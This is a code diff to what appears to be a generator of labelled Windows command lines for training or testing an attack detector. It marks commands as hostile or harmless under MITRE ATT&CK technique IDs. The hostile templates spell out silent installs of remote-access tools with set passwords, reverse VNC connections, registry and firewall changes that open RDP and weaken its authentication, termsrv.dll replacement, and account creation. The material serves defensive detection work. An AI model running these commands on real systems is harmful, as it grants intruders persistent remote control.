@@ -55,11 +55,11 @@ net group "«Domain Admins|Enterprise Admins|Exchange Organization Administrator
 hostile("remote-help-installed-by-strangers", "Command and Control", "T1219", r"""
 ~d~AnyDesk.exe --install "C:\ProgramData\AnyDesk" --start-with-win --silent
 cmd /c echo @pw@ | C:\ProgramData\AnyDesk.exe --set-password
-~d~anydesk.exe --get-id
+«C:\ProgramData\|C:\Users\Public\|C:\Windows\Temp\|C:\PerfLogs\|C:\Windows\Tasks\|C:\Users\@user@\Music\»anydesk.exe --get-id
 C:\ProgramData\AnyDesk\AnyDesk.exe --set-password _unattended_access & reg add HKLM\SYSTEM\CurrentControlSet\Control\SafeBoot\Network\AnyDesk /ve /d Service /f
 msiexec /i ~d~ScreenConnect.ClientSetup.msi /qn & del ~d~ScreenConnect.ClientSetup.msi
 ~d~ScreenConnect.ClientService.exe "?e=Access&y=Guest&h=@word@.«top|xyz|icu|click»&p=8041&s=@guid@&k=@hex@@hex@"
-~d~«atera|AteraAgent|splashtop|SRServer|rustdesk|meshagent|MeshAgent|Remcos|rutserv|rfusclient|client32|netsupport|ammyy|AA_v3|supremo|ultraviewer|dwagent|tacticalrmm|action1_agent|fleetdeck_agent|level|SimpleHelp|zohoassist|getscreen|HopToDesk|LMIGuardianSvc|ISLLight».exe «-install|--silent-install|/VERYSILENT|-fullinstall|--service|/S|-startup»
+«C:\ProgramData\|C:\Users\Public\|C:\Windows\Temp\|C:\PerfLogs\|C:\Windows\Tasks\|C:\Users\@user@\Music\»«atera|AteraAgent|splashtop|SRServer|rustdesk|meshagent|MeshAgent|Remcos|rutserv|rfusclient|client32|netsupport|ammyy|AA_v3|supremo|ultraviewer|dwagent|tacticalrmm|action1_agent|fleetdeck_agent|level|SimpleHelp|zohoassist|getscreen|HopToDesk|LMIGuardianSvc|ISLLight».exe «-install|--silent-install|/VERYSILENT|-fullinstall|--service|/S|-startup»
 ~d~meshagent.exe -fullinstall --installPath="C:\ProgramData\~n~" --meshServiceName="~n~"
 ~d~rustdesk.exe --password @pw@ & ~d~rustdesk.exe --get-id
 msiexec /i ~d~AteraAgentSetup.msi /qn IntegratorLogin=@word@@@word@.com CompanyId=1
@@ -67,20 +67,17 @@ powershell -c "iwr http://download.anydesk.com/AnyDesk.exe -OutFile C:\ProgramDa
 ~d~client32.exe & reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v NetSupport /d ~d~client32.exe /f
 ~d~winvnc.exe -install & ~d~winvnc.exe -connect @pub@::5500 -run
 ~d~TeamViewer.exe --id @n@@n@@n@ --passwd @pw@ & ~d~tv_x64.exe --action install
-~d~ngrok.exe tcp 3389
 ~d~quickassist.exe & powershell -w hidden -c "iwr @url@/~n~.zip -o ~f~.zip"
 ~d~code.exe tunnel --accept-server-license-terms --name ~n~ --random-name
 """, weight=1.3)
-hostile("remote-desktop-switched-on", "Persistence", "T1021.001 T1112 T1562.004", r"""
+hostile("remote-desktop-switched-on", "Lateral Movement", "T1021.001 T1112 T1562.004", r"""
 reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f & netsh advfirewall firewall add rule name="«rdp|~n~»" dir=in protocol=tcp localport=3389 action=allow
 reg add "HKLM\System\CurrentControlSet\Control\Terminal Server" /v fSingleSessionPerUser /t REG_DWORD /d 0 /f & reg add "HKLM\System\CurrentControlSet\Control\Terminal Server\Licensing Core" /v EnableConcurrentSessions /t REG_DWORD /d 1 /f
 reg add "HKLM\SYSTEM\CurrentControlSet\Control\Lsa" /v «DisableRestrictedAdmin|LimitBlankPasswordUse» /t REG_DWORD /d 0 /f
 reg add "HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System" /v LocalAccountTokenFilterPolicy /t REG_DWORD /d 1 /f & net user Administrator /active:yes
 reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server\WinStations\RDP-Tcp" /v «UserAuthentication|SecurityLayer» /t REG_DWORD /d 0 /f & sc config TermService start= auto & net start TermService
-reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server\WinStations\RDP-Tcp" /v PortNumber /t REG_DWORD /d @port@ /f
 ~d~RDPWInst.exe -i -o & ~d~RDPCheck.exe
 mstsc.exe /v:127.0.0.1:@port@ /shadow:@n@ /noconsentprompt /control
-reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows NT\Terminal Services" /v Shadow /t REG_DWORD /d 4 /f
 takeown /f C:\Windows\System32\termsrv.dll & icacls C:\Windows\System32\termsrv.dll /grant administrators:F & copy /y ~f~.dll C:\Windows\System32\termsrv.dll
 wmic rdtoggle where AllowTSConnections="0" call SetAllowTSConnections "1" & net localgroup "Remote Desktop Users" @word@ /add
 powershell "Set-ItemProperty 'HKLM:\System\CurrentControlSet\Control\Terminal Server' fDenyTSConnections 0; Enable-NetFirewallRule -DisplayGroup 'Remote Desktop'; net user @word@ @pw@ /add"
@@ -116,6 +113,10 @@ netsh interface portproxy add v6tov4 listenport=@port@ connectaddress=@pub@ conn
 """)
 
 harmless("remote-help-by-the-helpdesk", "Administration", r"""
+reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server\WinStations\RDP-Tcp" /v «PortNumber /t REG_DWORD /d @port@|UserAuthentication /t REG_DWORD /d 1» /f
+reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows NT\Terminal Services" /v Shadow /t REG_DWORD /d «1|2» /f
+qwinsta /server:@ip@ & rwinsta @n@ /server:@ip@
+tscon @n@ /dest:console
 "C:\Program Files (x86)\AnyDesk\AnyDesk.exe" --service
 "C:\Program Files (x86)\AnyDesk\AnyDesk.exe" --tray
 AnyDesk.exe --install "C:\Program Files (x86)\AnyDesk" --start-with-win --create-shortcuts --silent
